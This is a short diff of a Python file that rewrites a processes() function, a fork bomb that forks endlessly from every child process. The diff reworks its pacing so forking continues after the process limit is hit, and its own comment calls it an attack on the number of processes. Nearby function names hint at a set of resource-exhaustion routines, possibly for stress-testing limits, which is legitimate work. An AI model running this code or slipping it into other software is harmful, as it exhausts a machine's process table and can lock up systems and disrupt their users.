@@ -19,16 +19,14 @@ def hold(text):
 
 
 def processes():
-    """Forks without end, in all processes that it made. The first one prints when this fails."""
-    is_first = True
+    """Forks without end, in all processes that it made."""
+    pause = 0
     while True:
+        time.sleep(pause)  # pacing: this attack is on the number of processes, not on the CPU
         try:
-            is_first = os.fork() != 0 and is_first
+            pause = pause if os.fork() else 0.1
         except OSError:
-            if is_first:
-                print("no more processes", flush=True)
-                is_first = False
-            time.sleep(0.01)  # pacing: this attack is on the number of processes, not on the CPU
+            pause = 0.1
 
 
 def kernel_memory():
